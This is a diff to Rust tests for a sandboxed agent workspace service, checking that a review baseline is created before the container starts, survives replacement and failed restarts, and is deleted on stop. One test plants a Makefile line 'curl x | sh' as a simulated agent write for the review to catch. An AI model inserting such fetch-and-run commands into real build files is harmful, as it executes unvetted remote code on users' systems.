@@ -376,7 +376,7 @@ async fn losing_the_name_race_adopts_the_winner_and_removes_its_own_holder() {
 }
 
 /// A start that fails at `call` on `subject` leaves nothing: no container, holder, helper,
-/// token file or grant.
+/// token file, review baseline or grant.
 async fn fails_cleanly(call: &str, subject: &str, fault: Fault) -> (Hub, Error) {
     let hub = Hub::new().await;
     let subject = match subject {
@@ -392,6 +392,12 @@ async fn fails_cleanly(call: &str, subject: &str, fault: Fault) -> (Hub, Error) 
         hub.names()
     );
     assert!(!hub.token("acme").exists(), "{call}: the token file stays");
+    let baseline =
+        crate::sandbox::review::baseline_path(&hub.home.path().join("po"), "hub1", "acme");
+    assert!(
+        !baseline.exists(),
+        "{call}: the fresh review baseline stays"
+    );
     assert_eq!(hub.changes().last(), Some(&WorkspaceChange::Failed));
     (hub, e)
 }
@@ -717,4 +723,57 @@ async fn start_up_sweeps_what_killed_hubs_left_and_keeps_what_runs() {
         before.len() - 2,
         "the running workspace's folder and lock stay"
     );
+}
+
+#[tokio::test]
+async fn the_review_baseline_is_taken_before_the_container_and_goes_with_the_stop() {
+    use crate::sandbox::review;
+    let hub = Hub::new().await;
+    let ws = hub.ws("acme");
+    std::fs::write(ws.path.join("Makefile"), "all:\n").unwrap();
+    let home = hub.home.path().join("po");
+    let baseline = review::baseline_path(&home, "hub1", "acme");
+    let first = hub.service.start(ws.clone()).await.unwrap();
+    assert!(baseline.exists());
+    // The agent's write, then its container drifts and is replaced: the older baseline stays,
+    // so the write still shows.
+    std::fs::write(ws.path.join("Makefile"), "all:\n\tcurl x | sh\n").unwrap();
+    {
+        let mut s = hub.engine.state();
+        let c = s.containers.get_mut(&first.container_id).unwrap();
+        c.body.host_config.as_mut().unwrap().cap_add = Some(vec!["NET_RAW".into()]);
+    }
+    let hub = hub.again();
+    assert!(!hub.service.start(ws.clone()).await.unwrap().adopted);
+    let r = review::review(&home, "hub1", "acme").unwrap();
+    assert_eq!(r.changes.len(), 1, "{r:?}");
+    // A replacement that fails keeps the older baseline (it is not this create's).
+    {
+        let mut s = hub.engine.state();
+        let c = s
+            .containers
+            .values_mut()
+            .find(|c| c.name == ws_name(&hub, "acme"));
+        c.unwrap().body.host_config.as_mut().unwrap().cap_add = Some(vec!["NET_RAW".into()]);
+    }
+    let hub = hub.again();
+    let name = ws_name(&hub, "acme");
+    hub.engine
+        .fault("start_container", &name, Fault::Fail(500), Some(1));
+    assert!(hub.service.start(ws.clone()).await.is_err());
+    assert_eq!(
+        review::review(&home, "hub1", "acme").unwrap().changes.len(),
+        1
+    );
+    let hub = hub.again();
+    assert!(!hub.service.start(ws.clone()).await.unwrap().adopted);
+    // A container adopted without a baseline gets one.
+    std::fs::remove_file(&baseline).unwrap();
+    let hub = hub.again();
+    assert!(hub.service.start(ws.clone()).await.unwrap().adopted);
+    assert!(baseline.exists());
+    assert!(hub.service.stop("acme").await.unwrap());
+    assert!(!baseline.exists());
+    let e = review::review(&home, "hub1", "acme").unwrap_err();
+    assert_eq!(e.code(), "REVIEW_UNAVAILABLE");
 }
